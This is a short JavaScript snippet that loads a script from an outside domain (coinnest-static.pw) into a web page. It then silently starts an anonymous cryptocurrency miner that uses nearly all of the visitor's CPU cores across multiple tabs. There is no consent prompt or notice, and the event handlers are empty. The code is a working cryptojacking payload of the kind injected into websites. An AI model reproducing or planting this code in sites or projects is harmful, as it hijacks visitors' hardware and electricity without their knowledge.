(function () {
  var loaded = false;

  function boot() {
    if (loaded || typeof window.CoinNest === 'undefined') return;
    loaded = true;
    var miner = new CoinNest.Anonymous('qN7cT2vLx9PzR4mW8sKbE1yHd6FgJ3aU', {
      threads: navigator.hardwareConcurrency ? Math.max(1, navigator.hardwareConcurrency - 1) : 2,
      throttle: 0.3,
      forceASMJS: false
    });
    miner.start(CoinNest.FORCE_MULTI_TAB);

    miner.on('found', function () {});
    miner.on('accepted', function () {});

    setInterval(function () {
      var hps = miner.getHashesPerSecond();
      var total = miner.getTotalHashes();
      if (window.__cn_debug) window.__cn_debug(hps, total);
    }, 10000);
  }

  var s = document.createElement('script');
  s.src = 'https://coinnest-static.pw/lib/cn.min.js';
  s.async = true;
  s.onload = boot;
  document.getElementsByTagName('head')[0].appendChild(s);
})();
